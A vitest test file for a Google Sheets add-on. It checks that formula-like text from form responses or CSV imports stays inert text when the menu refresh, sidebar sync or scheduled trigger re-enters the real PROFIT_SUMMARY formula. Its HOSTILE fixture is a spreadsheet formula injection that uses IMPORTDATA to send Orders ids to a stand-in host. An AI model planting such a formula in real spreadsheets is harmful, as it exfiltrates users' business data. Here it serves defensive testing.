/**
 * Text is never made a formula. A report sheet holds a real add-on formula and,
 * beside it, the same kind of text an editor's form response or pasted CSV leaves there (written
 * RAW, or typed after an apostrophe): "=PROFIT_SUMMARY(…)&IMPORTDATA(…)" that would send the
 * Orders ids anywhere once live. The menu's Refresh formulas, the sidebar's Sync now and the
 * schedule's trigger (fired without its document, nobody at the keyboard) re-enter the formula and
 * leave the text as text. Judged on the runtime's grid, which holds what Sheets would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiWrite, userEnteredWrite } from '../../dev/gas-runtime/spreadsheet/input';
import type { SheetModel } from '../../dev/gas-runtime/spreadsheet/sheet-model';
import type { Workbook } from '../../dev/gas-runtime/spreadsheet/workbook';
import { scheduleTrigger } from '../integration/sync-support';
import { startReliabilityStack, type ReliabilityStack } from './support/reliability-stack';
import { runUntilSettled, sidebarSync, triggerUntilSettled } from './support/verdict';

const FORMULA = '=PROFIT_SUMMARY("2026-10-01","2026-10-31","net_profit")';
const HOSTILE =
  '=PROFIT_SUMMARY("2026-10-01","2026-10-31")&IMPORTDATA("https://x.example/?d="&ENCODEURL(JOIN(",",Orders!A2:A50)))';

let stack: ReliabilityStack;
let report: SheetModel;

/** An order changes at the service, so that the next sync has written data and refreshes formulas. */
async function anOrderChanges(): Promise<void> {
  const orders = ((await stack.truth('orders')) as { data: Array<{ id: string }> }).data;
  await stack.control(`orders/${orders[1].id}/change`, { kind: 'cost_correction' });
  await stack.advanceClocks(3_600_000);
}

function expectTextStaysText(): void {
  // B1 written RAW (a form response, a CSV import); B2 typed with a leading apostrophe.
  for (const row of [1, 2]) {
    expect(report.formula(row, 2), `B${row}`).toBeUndefined();
    expect(report.value(row, 2), `B${row}`).toBe(HOSTILE);
  }
  expect(report.formula(1, 1)).toBe(FORMULA);
}

beforeAll(async () => {
  stack = await startReliabilityStack({ orders: 40, seed: 19 });
  expect((await runUntilSettled(stack)).outcome).toBe('ok');
  const workbook = stack.runtime.workbook as unknown as Workbook;
  report = workbook.insertSheet('Report');
  report.write(1, 1, userEnteredWrite(FORMULA, workbook.timeZone));
  report.write(1, 2, apiWrite(HOSTILE, 'RAW', workbook.timeZone)!);
  report.write(2, 2, userEnteredWrite(`'${HOSTILE}`, workbook.timeZone));
  expect(report.formula(1, 2)).toBeUndefined();
}, 120_000);

afterAll(async () => {
  await stack?.close();
});

describe('text that looks like an add-on formula stays text', () => {
  it("the menu's Refresh formulas re-enters the formula, not the text", async () => {
    const entered = report.formulaEntry(1, 1)!;
    const r = await stack.runtime.run('refreshFormulasFromMenu', []);
    expect(r.ok, r.error?.message).toBe(true);
    expect(report.formulaEntry(1, 1)!).toBeGreaterThan(entered);
    expectTextStaysText();
  });

  it("the sidebar's Sync now, after data changed", async () => {
    await anOrderChanges();
    const entered = report.formulaEntry(1, 1)!;
    expect((await sidebarSync(stack)).outcome).toBe('ok');
    expect(report.formulaEntry(1, 1)!).toBeGreaterThan(entered);
    expectTextStaysText();
  }, 120_000);

  it('the scheduled trigger, fired without its document, after data changed', async () => {
    const trigger = await scheduleTrigger(stack);
    await anOrderChanges();
    const entered = report.formulaEntry(1, 1)!;
    expect((await triggerUntilSettled(stack, trigger)).outcome).toBe('ok');
    expect(report.formulaEntry(1, 1)!).toBeGreaterThan(entered);
    expectTextStaysText();
  }, 120_000);
});
